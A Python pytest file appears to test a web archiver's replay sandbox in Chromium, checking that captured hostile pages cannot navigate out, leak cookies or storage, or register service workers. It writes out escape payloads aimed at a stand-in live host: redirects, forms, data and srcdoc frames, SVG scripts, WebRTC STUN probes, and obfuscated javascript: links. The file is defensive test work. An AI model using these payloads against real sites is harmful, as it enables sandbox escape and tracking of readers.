"""A captured page attacks who reads it: in no mode of scripts does a probe get what it wants, and nothing leaves."""

from __future__ import annotations

import contextlib
from collections.abc import Iterator
from typing import TYPE_CHECKING, get_args

import pytest

from archiver.replay.addresses import story_path
from archiver.replay.policies import JavaScript
from tests.replay.chromium.attack import EVIL, LIVE, attack_page, probes
from tests.replay.chromium.stage import STAMP, Contents, Kept, Stage, Trap, settle, staged

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = pytest.mark.browser

PATH = f"/page/{STAMP}/{EVIL}"
TITLE = "evil.example"

FLIGHTS = {
    "location": "location.href = 'http://LIVE/flee'",
    "replace": "location.replace('https://LIVE/flee')",
    "refresh": "document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh',"
    " content: '0; url=http://LIVE/flee' }))",
    "link": "const a = document.createElement('a'); a.setAttributeNode(Object.assign(document.createAttribute('href'),"
    " { value: 'http://LIVE/flee' })); document.body.append(a); HTMLElement.prototype.click.call(a)",
    "form": "const f = document.createElement('form'); f.setAttributeNode(Object.assign(document.createAttribute("
    "'action'), { value: 'http://LIVE/flee' })); document.body.append(f); HTMLFormElement.prototype.submit.call(f)",
    "link to the top": "const a = document.createElement('a'); for (const [name, value] of [['href', 'http://LIVE/flee'],"
    " ['target', '_top']]) a.setAttributeNode(Object.assign(document.createAttribute(name), { value }));"
    " document.body.append(a); a.click()",
    "form to the top": "const f = document.createElement('form'); for (const [name, value] of [['action',"
    " 'http://LIVE/flee'], ['target', '_top']]) f.setAttributeNode(Object.assign(document.createAttribute(name),"
    " { value })); document.body.append(f); HTMLFormElement.prototype.submit.call(f)",
    "form to a window": "const f = document.createElement('form'); for (const [name, value] of [['action',"
    " 'http://LIVE/flee'], ['target', '_blank']]) f.setAttributeNode(Object.assign(document.createAttribute(name),"
    " { value })); document.body.append(f); HTMLFormElement.prototype.submit.call(f)",
    "data": "location.href = 'data:text/html,<script>location=`http://LIVE/flee`<\\/script>'",
    "frame of data": "document.body.innerHTML = '<iframe src=\"data:text/html,<script>location=`http://LIVE/flee`"
    "<\\/script>\"></iframe>'",
    "frame of srcdoc": "const i = document.createElement('iframe'); i.setAttributeNode(Object.assign(document."
    "createAttribute('srcdoc'), { value: '<script>location=`http://LIVE/flee`<\\/script>' })); document.body.append(i)",
    "interface": "location.href = 'INTERFACE/crawls'",
}

ALONE = {
    "drawing": Kept(
        f'<svg xmlns="http://www.w3.org/2000/svg"><script>location = "http://{LIVE}/drawing"</script></svg>',
        "image/svg+xml",
    ),
    "sheet": Kept(
        f'<html xmlns="http://www.w3.org/1999/xhtml"><script>location = "http://{LIVE}/sheet"</script></html>',
        "text/xsl",
    ),
    # One whose signatures do not hold leads to the page that it was made of.
    "exchange": Kept(
        b"sxg1-b3\0" + len(f"https://{LIVE}/sxg").to_bytes(2, "big") + f"https://{LIVE}/sxg".encode() + bytes(6),
        "application/signed-exchange;v=b3",
        (("X-Content-Type-Options", "nosniff"),),
    ),
    "heads": Kept("<title>heads</title>", "text/html", tuple((f"X-{number}", "v" * 8000) for number in range(50))),
}
"""What is no page, opened in a window of its own; the last is one that no browser would take with all its headers."""

PEERS = (
    "const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:stun.LIVE:NEIGHBOUR' }, { urls:"
    " 'stun:127.0.0.1:NEIGHBOUR' }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) =>"
    " peer.setLocalDescription(offer));"
)


@pytest.fixture(scope="module", params=get_args(JavaScript))
def stage(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory, browser: Browser, trap: Trap
) -> Iterator[Stage]:
    """The archive of the attacker, in one of the modes."""

    def contents(interface: str) -> Contents:
        script = probes(interface, trap.port)
        fleeing = {
            f"{EVIL}flee/{number}": _page(_filled(flight, interface, trap))
            for number, flight in enumerate(FLIGHTS.values())
        }
        peers = _filled(PEERS, interface, trap)
        hidden = (
            "const i = document.createElement('iframe'); i.setAttributeNode(Object.assign(document.createAttribute("
            f"'srcdoc'), {{ value: `<script>{peers}<\\/script>` }})); document.body.append(i);"
        )
        return {
            EVIL: attack_page(script),
            **{f"{EVIL}{name}": kept for name, kept in ALONE.items()},
            f"{EVIL}sw.js": Kept("self.onfetch = () => 0", "text/javascript", (("Service-Worker-Allowed", "/"),)),
            f"{EVIL}peers": _page(peers),
            f"{EVIL}hidden-peers": _page(hidden),
            f"{EVIL}links": "<!DOCTYPE html><html><head><title>Links</title></head><body><article><h1>Links</h1><p>"
            + "A story of some length, with a link <a href='javascript:document.title=1'>here</a> and one "
            "<a href='data:text/html,x'>there</a>, <a href='jav&#x09;ascript:alert(1)'>and another</a>. "
            * 5
            + "</p></article></body></html>",
            **fleeing,
        }

    folder = tmp_path_factory.mktemp("attack") / "shelf"
    with staged(folder, contents, browser, request.param) as made:
        yield made


def _page(script: str) -> str:
    return f"<!DOCTYPE html><title>fled</title><body><script>{script}</script>"


def _filled(text: str, interface: str, trap: Trap) -> str:
    return text.replace("INTERFACE", interface).replace("LIVE", LIVE).replace("NEIGHBOUR", str(trap.port))


@pytest.fixture
def caught(trap: Trap) -> list[bytes]:
    """What left during the test."""
    trap.caught.clear()
    return trap.caught


def test_no_probe_gets_what_it_wants(stage: Stage, caught: list[bytes]) -> None:
    context = stage.browser.new_context()
    context.grant_permissions(["clipboard-read", "geolocation"], origin=stage.origin)
    context.add_cookies([{"name": "session", "value": "SECRET", "url": stage.origin}])
    page = context.new_page()
    stage.pages.append(page)
    dialogs: list[str] = []
    downloads: list[str] = []
    # One that nobody listens to would stop the page; one that is noted here may.
    page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    page.on("download", lambda download: downloads.append(download.url))
    page.goto(stage.origin + "/crawls")
    page.evaluate("() => localStorage.setItem('own', 'SECRET')")
    page.goto(stage.origin + PATH)
    title = page.title()
    frame = page.frames[1]
    if "allow-scripts" in (page.locator("iframe").get_attribute("sandbox") or ""):
        frame.wait_for_function("() => self.found", timeout=60_000)
        found = frame.evaluate("() => self.found")
        assert len(found) > 100
        assert {name: said for name, said in found.items() if "GOT" in said or "SECRET" in said} == {}
    else:
        assert frame.evaluate("() => document.querySelectorAll('iframe').length") == 0
    settle(page)
    assert_untouched(page, stage, title)
    assert (dialogs, downloads, caught) == ([], [], [])
    kept = {(cookie.get("domain"), cookie.get("name")) for cookie in context.cookies() if "expires" in cookie}
    assert ("localhost", "session") in kept
    assert {name for domain, name in kept if domain == "localhost"} <= {"session", "language"}


def assert_untouched(page: Page, stage: Stage, title: str) -> None:
    """Fail where the interface's page is not as it was before the attack."""
    assert page.url == stage.origin + PATH
    assert page.title() == title
    assert TITLE in title
    assert len(page.context.pages) == 1
    assert page.context.service_workers == []
    assert page.evaluate("() => navigator.serviceWorker.getRegistrations().then((all) => all.length)") == 0
    assert page.evaluate("() => ({ ...localStorage })") == {"own": "SECRET"}
    assert [frame.url for frame in page.frames[1:] if frame.url.startswith(stage.origin)] == []


@pytest.mark.parametrize("number", range(len(FLIGHTS)), ids=list(FLIGHTS))
def test_a_page_that_flees_does_not_get_out(stage: Stage, caught: list[bytes], number: int) -> None:
    page = stage.open(f"/page/{STAMP}/{EVIL}flee/{number}")
    settle(page)
    assert page.url.startswith(f"{stage.origin}/page/")
    # Not even a connection that says nothing, where the browser knows Connection-Allowlist.
    assert caught == []


@pytest.mark.parametrize("name", ALONE)
def test_what_gets_a_window_of_its_own_does_not_get_out(stage: Stage, caught: list[bytes], name: str) -> None:
    page = stage.open("/crawls")
    with contextlib.suppress(Exception) if name == "exchange" else contextlib.nullcontext():
        # It is saved, so the window goes nowhere.
        page.goto(f"{stage.content_origin}/w/{STAMP}mp_/{EVIL}{name}")
    settle(page)
    assert caught == []
    if name in ("drawing", "heads"):
        assert page.url == f"{stage.origin}/page/{STAMP}/{EVIL}{name}"
    assert page.frames[-1].title() == "heads" or name != "heads"


@pytest.mark.parametrize("name", ["peers", "hidden-peers"])
def test_no_peer_hears_of_the_reader(stage: Stage, caught: list[bytes], name: str) -> None:
    page = stage.browser.new_context().new_page()
    stage.pages.append(page)
    # Chromium ends the renderer of a page that asks for peers where Connection-Allowlist forbids them (seen with 156).
    crashed = []
    page.on("crash", lambda _: crashed.append(name))
    page.goto(f"{stage.origin}/page/{STAMP}/{EVIL}{name}", wait_until="commit")
    other = stage.open("/crawls")
    other.wait_for_timeout(1500)
    assert caught == []


def test_a_message_that_is_not_the_frames_is_not_believed(stage: Stage) -> None:
    page = stage.open(f"/page/{STAMP}/{EVIL}links")
    before = page.url
    page.evaluate("() => postMessage({ archived: '/page/x/http://other.example/' }, '*')")
    page.evaluate("() => new Promise((done) => setTimeout(done))")
    assert page.url == before


def test_links_that_are_scripts_are_none_on_the_story_view(stage: Stage) -> None:
    page = stage.open(story_path(stage.record_ids[f"{EVIL}links"]))
    addresses = page.eval_on_selector_all("[href]", "all => all.map((each) => each.protocol ?? '')")
    assert set(addresses) <= {"http:", "https:", ""}
